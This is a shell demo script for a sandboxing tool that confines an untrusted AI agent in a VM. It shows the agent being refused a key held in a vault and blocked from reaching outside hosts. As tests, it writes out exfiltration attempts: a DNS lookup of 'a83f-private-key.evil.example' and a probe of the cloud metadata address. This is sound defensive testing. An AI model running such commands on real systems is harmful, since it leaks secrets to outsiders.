#!/bin/sh
# An agent that nobody trusts: one destination outside, a vault that it may not reach, and a guard
# in between. The destination is a small server that this starts on the loopback.
set -eu

# The root of the checkout, so that each command can be typed as it is shown.
CDPATH='' cd -- "$(dirname -- "$0")/../.."
. examples/play.sh

gateway=192.0.2.1
servers=
forget() {
    skerry down >/dev/null 2>&1 || true
    # shellcheck disable=SC2086  # process numbers
    [ -z "$servers" ] || kill $servers 2>/dev/null || true
}

# in_guest DOMAIN SCRIPT: shows and runs a script in a domain; leaves its output in $said.
in_guest() {
    show "skerry exec $1 -- sh -c '$2'"
    said=$(skerry exec "$1" -- sh -c "$2" 2>&1) || fail "the command failed in $1: $said"
    [ -z "$said" ] || printf '%s\n' "$said"
}

# runs DOMAIN FILE: leaves a script running in a domain.
runs() {
    show "skerry exec -i $1 -- sh -c 'cat > /tmp/run; setsid sh /tmp/run > /dev/null 2>&1 &' < $2"
    skerry exec -i "$1" -- sh -c 'cat > /tmp/run; setsid sh /tmp/run > /dev/null 2>&1 &' <"$2"
}

# serve PORT TEXT: a server on the host's loopback that says this to whoever asks.
serve() {
    .venv/bin/python - "$1" "$2" <<'PYTHON' &
import http.server
import sys


class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(sys.argv[2].encode() + b"\n")

    def log_message(self, *_):
        pass


http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), Page).serve_forever()
PYTHON
    servers="$servers $!"
}

serve 7878 'the model says: check the balance'
serve 7879 'thank you for the secret'
sleep 1
# shellcheck disable=SC2086
kill -0 $servers || fail "the ports 7878 and 7879 must be free"

step "Agent, guard and vault start as virtual machines; the agent has one uplink"
run skerry up examples/agent/system.toml --detach
run skerry channels
runs vault examples/agent/vault.sh
runs guard examples/agent/guard.sh

step "The agent takes an address, and reaches its one destination"
in_guest agent 'uplink-up model'
in_guest agent "wget -q -O - http://$gateway:7878/"
[ "$said" = 'the model says: check the balance' ] || fail "the agent did not reach it"

step "It asks for what it needs, and the guard passes that on; what it must not have is refused"
show "skerry exec -i agent -- sh -c 'cat > /tmp/ask' < examples/agent/ask.sh"
skerry exec -i agent -- sh -c 'cat > /tmp/ask' <examples/agent/ask.sh
in_guest agent 'timeout 20 sh /tmp/ask balance'
[ "$said" = 1250.00 ] || fail "the guard did not answer"
in_guest agent 'timeout 20 sh /tmp/ask key'
[ "$said" = 'refused by the guard' ] || fail "the guard let it pass"

step "It tries to tell a stranger: another server, an address of the internet, a name"
in_guest agent "timeout 3 wget -q -O - http://$gateway:7879/ || echo no way"
[ "$said" = "${said%thank you*}" ] || fail "the stranger was told"
in_guest agent 'timeout 3 wget -q -O - http://169.254.169.254:7878/ 2>&1 || echo no way'
in_guest agent 'nslookup a83f-private-key.evil.example 2>&1 | grep NXDOMAIN'
run sh -c "skerry audit tail -n 50 | grep uplink-refused"
skerry audit tail -n 50 | grep -q 'uplink-refused.*asked=a83f-private-key.evil.example' ||
    fail "the trail does not name what was asked"

step "The policy lets nobody give it more: no way to the vault, none out for guard and vault"
refused skerry connect agent vault
refused skerry connect vault model
refused skerry connect guard model
run skerry why "$record"

step "The uplink is cut, and with it every connection; the guard still answers"
number=$(skerry channels | sed -n 's/^\([0-9]*\) *uplink.*/\1/p')
run skerry cut "$number"
in_guest agent "timeout 3 wget -q -O - http://$gateway:7878/ 2>&1 || echo no way"
[ "$said" = "${said%the model says*}" ] || fail "the agent still reaches it"
in_guest agent 'timeout 20 sh /tmp/ask balance'
[ "$said" = 1250.00 ] || fail "the guard did not answer"

step "Everything is stopped again"
run skerry down
cat <<TEXT

demo: done; everything above ran as it should, and nothing of it runs any more.
demo: skerry is .venv/bin/skerry; the trail stays in $SKERRY_HOME
TEXT
